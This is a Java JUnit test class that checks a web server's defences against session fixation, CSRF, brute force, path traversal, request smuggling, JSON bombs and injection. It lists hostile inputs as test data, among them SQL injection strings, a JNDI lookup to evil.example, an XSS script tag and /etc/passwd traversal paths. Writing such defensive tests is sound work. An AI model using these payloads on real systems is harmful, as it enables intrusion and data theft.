package org.nijugo.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.nijugo.server.Browser.Reply;
import org.nijugo.server.http.Endpoints;
import org.nijugo.server.http.Verb;
import org.nijugo.wire.Json;

/** What strangers try. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AttackTest {
    private static final List<String> METACHARACTERS = List.of(
            "'; DROP TABLE account; --",
            "\\\" OR \\\"1\\\"=\\\"1",
            "' UNION SELECT password FROM account --",
            "%' OR name LIKE '%",
            "$1; SELECT pg_sleep(9)",
            "\\\\'; --",
            "\\u0000",
            "\\ud800",
            ":id",
            "?",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>");

    private House house;
    private Browser ben;

    @BeforeAll
    void open(@TempDir Path data) {
        house = House.open(data);
        ben = house.moveIn("Ben", true);
    }

    @AfterAll
    void close() {
        house.close();
    }

    @Test
    void aSessionThatSomebodyPlantedIsNotTheOneAfterSigningIn() {
        Browser victim = house.stranger();
        victim.cookies.put("nijugo", "planted-by-an-attacker");
        victim.get("/api/v1/who");
        assertThat(victim.cookies).doesNotContainKey("nijugo");
        victim.cookies.put("nijugo", "planted-by-an-attacker");
        victim.post("/api/v1/sign-in", House.signIn("Ben", House.PASSWORD));
        String first = victim.cookies.get("nijugo");
        assertThat(first).isNotNull().isNotEqualTo("planted-by-an-attacker");
        victim.post("/api/v1/sign-in", House.signIn("Ben", House.PASSWORD));
        assertThat(victim.cookies.get("nijugo")).isNotEqualTo(first);
        Browser attacker = house.stranger();
        attacker.cookies.put("nijugo", String.valueOf(first));
        assertThat(attacker.get("/api/v1/events").status()).isEqualTo(401);
    }

    @Test
    void aCookieThatWasCopiedIsWorthNothingAfterSigningOut() {
        Browser phone = house.signedIn("Ben");
        Browser thief = house.stranger();
        thief.cookies.putAll(phone.cookies);
        assertThat(thief.get("/api/v1/events").status()).isEqualTo(200);
        phone.post("/api/v1/sign-out", "{}");
        assertThat(thief.get("/api/v1/events").status()).isEqualTo(401);
    }

    @Test
    void aStreamEndsWithTheTokenOrTheSessionThatOpenedIt() throws Exception {
        Reply made = ben.post("/api/v1/account/tokens", "{\"name\":\"lost phone\",\"scope\":\"read\"}");
        String path = "/api/v1/athletes/" + House.athlete(ben) + "/live";
        try (Watcher thief = Watcher.open(house.server.port(), path, "Authorization", "Bearer " + made.at("token"))) {
            thief.next(":here");
            ben.delete("/api/v1/account/tokens/" + made.at("id"));
            thief.ended();
        }
        Browser phone = house.signedIn("Ben");
        try (Watcher watcher = Watcher.open(house.server.port(), path, phone.sentHeaders())) {
            watcher.next(":here");
            phone.post("/api/v1/sign-out", "{}");
            watcher.ended();
        }
        Browser tablet = house.signedIn("Ben");
        try (Watcher watcher = Watcher.open(house.server.port(), path, tablet.sentHeaders())) {
            watcher.next(":here");
            String devices = ben.get("/api/v1/account/devices").body();
            assertThat(devices).contains("\"thisOne\":false");
            for (Json device : ((Json.Items)
                            ((Json.Fields) Json.parse(devices)).find("devices").orElseThrow())
                    .items()) {
                Json.Fields fields = (Json.Fields) device;
                if (fields.find("thisOne").orElseThrow().print().equals("false")) {
                    String id = ((Json.Text) fields.find("id").orElseThrow()).value();
                    ben.delete("/api/v1/account/devices/" + id);
                }
            }
            watcher.ended();
        }
    }

    @Test
    void aRequestThatAForeignPageMadeABrowserSendIsRefused() {
        String batch = House.batch(House.athlete(ben));
        Browser without = house.stranger().with("X-XSRF-TOKEN", "");
        without.cookies.putAll(ben.cookies);
        Reply refused = without.post("/api/v1/events", batch);
        assertThat(refused.status()).isEqualTo(403);
        assertThat(refused.at("type")).isEqualTo("urn:nijugo:problem:csrf");
        Browser guessed = house.stranger().with("X-XSRF-TOKEN", "00000000-0000-0000-0000-000000000000");
        guessed.cookies.putAll(ben.cookies);
        assertThat(guessed.post("/api/v1/events", batch).status()).isEqualTo(403);
        for (String[] header : new String[][] {
            {"Origin", "https://evil.example"},
            {"Origin", "null"},
            {"Sec-Fetch-Site", "cross-site"},
            {"Sec-Fetch-Site", "same-site"}
        }) {
            Browser foreign = house.stranger().with(header[0], header[1]);
            foreign.cookies.putAll(ben.cookies);
            assertThat(foreign.post("/api/v1/events", batch).status())
                    .as(header[1])
                    .isEqualTo(403);
        }
        Browser form = house.stranger().with("Content-Type", "application/x-www-form-urlencoded");
        form.cookies.putAll(ben.cookies);
        assertThat(form.post("/api/v1/events", "events=1").status()).isEqualTo(415);
        assertThat(house.stranger()
                        .with("X-XSRF-TOKEN", "")
                        .post("/api/v1/sign-in", House.signIn("Ben", "x"))
                        .status())
                .isEqualTo(403);
    }

    @Test
    void theSessionsCookieIsSeenByNoScriptAndSentByNoOtherSite(@TempDir Path data) {
        Browser browser = house.stranger();
        Reply in = browser.post("/api/v1/sign-in", House.signIn("Ben", House.PASSWORD));
        assertThat(in.cookie("nijugo")).contains("HttpOnly", "SameSite=Strict", "Path=/");
        try (House secure =
                House.open(data, options -> options.withPublicUrl(java.net.URI.create("https://lift.example")))) {
            Browser ada = secure.stranger();
            Reply reply = ada.post("/api/v1/sign-in", House.signIn("Ada", House.PASSWORD));
            assertThat(reply.cookie("__Host-nijugo")).contains("HttpOnly", "SameSite=Strict", "Path=/", "; Secure");
            assertThat(reply.header("Strict-Transport-Security")).contains("max-age=63072000");
            assertThat(in.header("Strict-Transport-Security")).isEmpty();
            assertThat(secure.stranger().with("Host", "lift.example").get("/").status())
                    .isEqualTo(200);
            assertThat(secure.stranger()
                            .with("Host", "lift.example")
                            .with("Origin", "https://lift.example")
                            .get("/api/v1/who")
                            .status())
                    .isEqualTo(200);
        }
    }

    @Test
    void guessingAPasswordEndsAfterTenTriesHoweverManyAtOnce() throws Exception {
        house.moveIn("Gil", false);
        ExecutorService hands = Executors.newFixedThreadPool(8);
        try {
            List<Callable<Integer>> tries = new ArrayList<>();
            for (int i = 0; i < 24; i++) {
                tries.add(() -> house.stranger()
                        .post("/api/v1/sign-in", House.signIn("Gil", "wrong"))
                        .status());
            }
            int heard = 0;
            int refused = 0;
            for (Future<Integer> answer : hands.invokeAll(tries)) {
                heard += answer.get() == 401 ? 1 : 0;
                refused += answer.get() == 429 ? 1 : 0;
            }
            assertThat(heard).isLessThanOrEqualTo(10);
            assertThat(refused).isGreaterThanOrEqualTo(14);
        } finally {
            hands.shutdownNow();
        }
        Reply right = house.stranger().post("/api/v1/sign-in", House.signIn("GIL", House.PASSWORD));
        assertThat(right.status()).isEqualTo(429);
        assertThat(Integer.parseInt(right.header("Retry-After"))).isBetween(1, 901);
        assertThat(house.signedIn("Ben").get("/api/v1/events").status()).isEqualTo(200);
    }

    @Test
    void pathsLeadNowhereElse() throws IOException {
        for (String path : List.of(
                "/../../etc/passwd",
                "/start.css/../../../etc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/..%2f..%2fetc%2fpasswd",
                "/api/v1/..;/admin/accounts",
                "/api/v1/%2561dmin/accounts",
                "/api/v1/admin%2faccounts",
                "/api/v1//admin/accounts",
                "/api/v1/admin/accounts/",
                "/API/V1/ADMIN/ACCOUNTS",
                "/api/v1/health%00.html",
                "/api/v1/athletes/%2e%2e",
                "\\..\\..\\etc\\passwd",
                "/WEB-INF/web.xml",
                "/actuator/env",
                "/error")) {
            String answer = raw("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
            assertThat(answer)
                    .as(path)
                    .matches("(?s)HTTP/1.1 (400|401|403|404).*")
                    .doesNotContain("root:");
            assertThat(answer).as(path).doesNotContain("Tomcat").doesNotContain("at org.");
        }
    }

    @Test
    void tooMuchIsRefusedBeforeItIsRead() throws IOException {
        String head = "POST /api/v1/sign-in HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nX-XSRF-TOKEN: "
                + token() + "\r\nCookie: XSRF-TOKEN=" + token() + "\r\nContent-Type: application/json\r\n";
        assertThat(raw(head + "Content-Length: 999999999\r\n\r\n{")).startsWith("HTTP/1.1 413");
        String chunk = "10000\r\n" + " ".repeat(65_536) + "\r\n";
        assertThat(raw(head + "Transfer-Encoding: chunked\r\n\r\n" + chunk.repeat(17) + "0\r\n\r\n"))
                .startsWith("HTTP/1.1 413");
        assertThat(raw("GET /api/v1/who HTTP/1.1\r\nHost: localhost\r\nX: " + "y".repeat(40_000) + "\r\n\r\n"))
                .startsWith("HTTP/1.1 400");
        assertThat(raw("GET /api/v1/who?" + "y".repeat(5_000)
                        + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
                .startsWith("HTTP/1.1 400");
        assertThat(raw(head + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n"))
                .matches("(?s)HTTP/1.1 400.*");
    }

    @Test
    void aBodyThatStallsIsGivenUp() throws IOException {
        String answer = raw("POST /api/v1/sign-in HTTP/1.1\r\nHost: localhost\r\nX-XSRF-TOKEN: " + token()
                + "\r\nCookie: XSRF-TOKEN=" + token()
                + "\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"name\":");
        assertThat(answer).startsWith("HTTP/1.1 408");
    }

    @Test
    void bombsOfJsonDoNotGoOff() {
        List<String> bombs = List.of(
                "[".repeat(200_000),
                "{\"a\":".repeat(100_000),
                "{\"events\":" + "[".repeat(65) + "]".repeat(65) + "}",
                "{\"events\":[1" + "0".repeat(100_000) + "]}",
                "{\"events\":[],\"events\":[]}",
                "{\"events\":\"" + "\\ud83d".repeat(50_000) + "\"}",
                "{" + "\"a\":1,".repeat(100_000) + "\"b\":1}",
                "{\"events\":[" + "{},".repeat(100_000) + "{}]}",
                "\ufeff\ufeff{}",
                "{\"events\":NaN}",
                "{'events':[]}",
                "");
        for (String bomb : bombs) {
            long before = System.nanoTime();
            Reply reply = ben.post("/api/v1/events", bomb);
            assertThat(reply.status())
                    .as(bomb.substring(0, Math.min(30, bomb.length())))
                    .isBetween(400, 413);
            assertThat(System.nanoTime() - before).isLessThan(3_000_000_000L);
        }
    }

    @Test
    void metacharactersInEveryFieldAreOnlyCharacters() {
        Json.Fields document = house.stranger().get("/api/v1/openapi.json").json();
        int sent = 0;
        int accounts = house.ada.get("/api/v1/admin/accounts").body().split("\"id\"", -1).length;
        for (Endpoints endpoint : Endpoints.values()) {
            if (endpoint.path().endsWith("/live")
                    || endpoint == Endpoints.SIGN_OUT
                    || endpoint == Endpoints.CREATE_ACCOUNT
                    || endpoint == Endpoints.SIGN_IN) {
                continue;
            }
            for (String attack : METACHARACTERS) {
                Browser who = endpoint.path().contains("/admin/") ? house.ada : ben;
                String encoded = java.net.URLEncoder.encode(
                                ((Json.Text) Json.parse("\"" + attack + "\"")).value(), StandardCharsets.UTF_8)
                        .replace("+", "%20");
                String path = endpoint.path()
                        .replace("{athlete}", House.athlete(ben))
                        .replaceAll("\\{[a-z]+\\}", java.util.regex.Matcher.quoteReplacement(encoded));
                Optional<String> body = fields(document, endpoint)
                        .map(names -> "{"
                                + String.join(
                                        ",",
                                        names.stream()
                                                .map(name -> "\"" + name + "\":\"" + attack + "\"")
                                                .toList())
                                + "}");
                String query = endpoint.verb() == Verb.GET
                        ? "?after=" + encoded + "&limit=" + encoded + "&search=" + encoded + "&rule=" + encoded
                        : "";
                Reply reply = who.send(endpoint.verb().name(), path + query, body);
                assertThat(reply.status())
                        .as("%s %s: %s", endpoint, attack, reply.body())
                        .isLessThan(500);
                sent++;
            }
        }
        assertThat(sent).isGreaterThan(700);
        for (String attack : METACHARACTERS) {
            String name = attack + " 7";
            Reply made = house.ada.post("/api/v1/admin/accounts", House.signIn(name, House.PASSWORD));
            Reply in = house.stranger().post("/api/v1/sign-in", House.signIn(name, House.PASSWORD));
            assertThat(made.status()).as(made.body()).isIn(201, 400);
            assertThat(in.status())
                    .isEqualTo(made.status() == 201 ? 200 : in.status())
                    .isLessThan(500);
            accounts += made.status() == 201 ? 1 : 0;
        }
        assertThat(house.ada.get("/api/v1/admin/accounts").body().split("\"id\"", -1))
                .hasSize(accounts);
    }

    private static Optional<List<String>> fields(Json.Fields document, Endpoints endpoint) {
        Json value = document;
        for (String name : List.of(
                "paths",
                endpoint.path(),
                endpoint.verb().name().toLowerCase(java.util.Locale.ROOT),
                "requestBody",
                "content",
                "application/json",
                "schema",
                "$ref")) {
            Optional<Json> next = value instanceof Json.Fields object ? object.find(name) : Optional.empty();
            if (next.isEmpty()) {
                return Optional.empty();
            }
            value = next.get();
        }
        String schema = ((Json.Text) value).value().replace("#/components/schemas/", "");
        Json.Fields components = (Json.Fields) document.find("components").orElseThrow();
        Json.Fields schemas = (Json.Fields) components.find("schemas").orElseThrow();
        Json.Fields properties =
                (Json.Fields) ((Json.Fields) schemas.find(schema).orElseThrow())
                        .find("properties")
                        .orElseThrow();
        return Optional.of(properties.fields().stream().map(Json.Field::name).toList());
    }

    /** Any value will do for one's own cookie and header, as long as they are the same. */
    private static String token() {
        return "11111111-2222-3333-4444-555555555555";
    }

    /** Sends these bytes and reads until the server closes. */
    private String raw(String request) throws IOException {
        try (Socket socket = new Socket("localhost", house.server.port())) {
            socket.setSoTimeout(25_000);
            OutputStream out = socket.getOutputStream();
            try {
                out.write(request.getBytes(StandardCharsets.ISO_8859_1));
                out.flush();
            } catch (IOException refusedEarly) {
                return first(socket);
            }
            return first(socket);
        }
    }

    private static String first(Socket socket) throws IOException {
        InputStream in = socket.getInputStream();
        byte[] some = new byte[4096];
        int read = in.read(some);
        return read < 0 ? "" : new String(some, 0, read, StandardCharsets.ISO_8859_1);
    }
}
